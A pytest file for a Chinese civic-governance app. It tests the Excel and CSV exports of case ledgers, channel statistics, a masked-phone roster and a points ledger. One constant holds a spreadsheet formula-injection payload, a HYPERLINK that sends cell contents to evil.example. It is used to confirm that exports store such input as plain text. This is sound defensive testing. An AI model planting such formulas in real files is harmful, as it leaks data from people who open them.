"""台账 as Excel: the cases, KPIs, the 红色四长 roster and the 爱心超市 ledgers open in openpyxl, in Chinese."""

import io
import re
from datetime import datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from geo_app.services.spreadsheets import CASE_HEADERS, XLSX_MIMETYPE

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
LATIN_WORD = re.compile(r"[A-Za-z]{2,}")


def _workbook(response):
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.mimetype == XLSX_MIMETYPE
    assert "filename*=UTF-8''" in response.headers["Content-Disposition"]
    return load_workbook(io.BytesIO(response.data))


def _rows(sheet):
    return [list(r) for r in sheet.iter_rows(values_only=True)]


def test_cases_xlsx_has_chinese_headers_and_the_same_rows_as_the_json(client):
    filters = {"from": "2023-01-01", "to": "2024-06-30", "category": "dispute"}
    cases = client.get("/api/v1/cases", query_string={**filters, "limit": 1000}).get_json()
    assert 0 < cases["total"] <= 1000
    book = _workbook(client.get("/api/v1/cases", query_string={**filters, "format": "xlsx"}))
    assert book.sheetnames == ["民情台账"]
    header, *rows = _rows(book["民情台账"])
    assert tuple(header) == CASE_HEADERS
    assert not any(LATIN_WORD.search(h) for h in header)
    assert [r[0] for r in rows] == [c["code"] for c in cases["cases"]]
    column = {name: i for i, name in enumerate(header)}
    for row, case in zip(rows, cases["cases"], strict=True):
        assert row[column["状态"]] == case["status_label"]
        assert row[column["类别"]] == "矛盾纠纷" and row[column["渠道"]] == case["channel"]["label"]
        assert row[column["紧急程度"]] == case["urgency"]["label"]
        assert row[column["责任人"]] == case["assignee"]["name"]
        assert isinstance(row[column["受理时间"]], datetime)
        assert row[column["满意度"]] == (case["satisfaction"] or {}).get("label")
        for name in ("状态", "类别", "渠道", "紧急程度", "满意度", "责任人角色"):
            assert not row[column[name]] or not LATIN_WORD.search(row[column[name]])


def test_cases_xlsx_keeps_the_scope_of_a_chief(chief_client):
    mine = chief_client.get("/api/v1/cases?limit=1000").get_json()
    header, *rows = _rows(_workbook(chief_client.get("/api/v1/cases?format=xlsx"))["民情台账"])
    assert [r[0] for r in rows] == [c["code"] for c in mine["cases"]]


def test_a_title_like_a_formula_is_a_text_cell(app, client):
    from geo_app.extensions import db

    code = client.get("/api/v1/cases?limit=1").get_json()["cases"][0]["code"]
    with app.app_context():
        db.session.execute(text("UPDATE civic_case SET title = :t WHERE code = :c"), {"t": HOSTILE, "c": code})
        db.session.commit()
    sheet = _workbook(client.get("/api/v1/cases?format=xlsx"))["民情台账"]
    [cell] = [row[1] for row in sheet.iter_rows(min_row=2) if row[0].value == code]
    assert cell.value == HOSTILE and cell.data_type == "s"
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_the_public_cannot_download_the_cases(public_client):
    assert public_client.get("/api/v1/cases?format=xlsx").status_code == 401


def test_stats_xlsx_shows_rates_as_percentages(client):
    body = client.get("/api/v1/stats?by=channel").get_json()
    book = _workbook(client.get("/api/v1/stats?by=channel&format=xlsx"))
    assert book.sheetnames == ["按渠道统计"]
    sheet = book["按渠道统计"]
    header = [c.value for c in sheet[1]]
    assert header[:4] == ["名称", "受理", "办结", "办理中"] and "办结率" in header
    night = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "夜谈悦好")
    rate = night[header.index("办结率")]
    expected = next(r for r in body["rows"] if r["key"] == "night_talk")["resolution_rate"]
    assert rate.value == pytest.approx(expected) and rate.number_format == "0.0%"
    assert night[1].value == 94


def test_stats_csv_has_chinese_headers_and_percentages(client):
    text_ = client.get("/api/v1/stats?by=channel&format=csv").get_data(as_text=True).lstrip("\ufeff")
    header, *lines = text_.splitlines()
    assert header == "名称,受理,办结,办理中,响应率,办结率,按期办结率,满意率,平均办结（小时）"
    night = next(line for line in lines if line.startswith("夜谈悦好,"))
    assert night.startswith("夜谈悦好,94,93,1,") and "98.9%" in night


def test_roster_xlsx_lists_the_people_with_masked_phones(client):
    people = client.get("/api/v1/people").get_json()["people"]
    header, *rows = _rows(_workbook(client.get("/api/v1/people?format=xlsx"))["红色四长名册"])
    assert header[:2] == ["姓名", "职务"]
    assert [r[0] for r in rows] == [p["name"] for p in people]
    assert {r[1] for r in rows} <= {"街长", "巷长", "店长", "楼栋长", "网格员"}
    assert all("*" in (r[-1] or "*") for r in rows)


def test_points_ledger_xlsx_adds_up_to_the_summary(client):
    summary = client.get("/api/v1/points/mingzhu").get_json()
    book = _workbook(client.get("/api/v1/points/mingzhu?format=xlsx"))
    assert book.sheetnames == ["积分账户", "积分流水"]
    accounts = _rows(book["积分账户"])[1:]
    assert len(accounts) == summary["households"] and sum(a[1] for a in accounts) == summary["balance"]
    header, *entries = _rows(book["积分流水"])
    assert header[:4] == ["时间", "户号", "类型", "积分"]
    assert {e[2] for e in entries} <= {"获得", "兑换"}
    assert sum(e[3] for e in entries if e[2] == "获得") == summary["earned"]


def test_bad_format_is_refused(client):
    assert client.get("/api/v1/cases?format=pdf").status_code == 400
